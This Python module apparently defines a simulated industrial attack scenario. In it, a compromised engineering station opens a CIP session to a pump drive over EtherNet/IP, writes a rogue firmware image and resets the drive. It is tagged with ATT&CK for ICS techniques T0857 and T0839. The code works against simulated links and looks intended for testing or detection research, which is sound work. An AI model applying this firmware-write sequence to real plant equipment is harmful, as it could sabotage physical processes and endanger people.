"""The pump's drive is given other firmware over EtherNet/IP, and restarts with it."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from interlock.plant.actors.steps import Ask, Close, Link, Wait
from interlock.plant.attacks.scenario import Scenario, Scene
from interlock.plant.protocols import cip
from interlock.plant.protocols.cip_files import download

if TYPE_CHECKING:
    from interlock.plant.actors.steps import Script

__all__ = ["SCENARIO"]

_NAME: Final = "PD11_V20.bin"
_MAGIC: Final = b"PD-11 V2.0\0\0"
_OCTETS: Final = 24_000


def _script(scene: Scene) -> Script:
    link = Link("engineering", "drive-pump", 44818)
    yield Ask(link, cip.encapsulate(cip.LIST_IDENTITY, 0))
    answers = yield Ask(link, cip.register())
    session = cip.session_of(answers[0]) if answers else 0
    image = _MAGIC + bytes(scene.draws.number(8) for _ in range(_OCTETS))
    number = 0
    for number, request in enumerate(download(_NAME, image), 1):
        yield Ask(link, cip.unconnected(session, request, number))
        yield Wait(scene.draws.uniform(0.02, 0.05))
    reset = cip.request(cip.RESET, cip.object_path(1, 1), b"\0")
    yield Ask(link, cip.unconnected(session, reset, number + 1))
    yield Close(link)


SCENARIO: Final = Scenario(
    name="firmware-write",
    title="The engineering station, taken over, writes other firmware into the pump's drive",
    technique="T0857",
    also=("T0839",),
    attacker="engineering",
    victims=("drive-pump",),
    harm="The drive restarts under the attacker's firmware: pump and motor do what nobody sees or can undo.",
    script=_script,
    moves=("pump.speed_setpoint", "pump.speed", "buffer.level"),
)
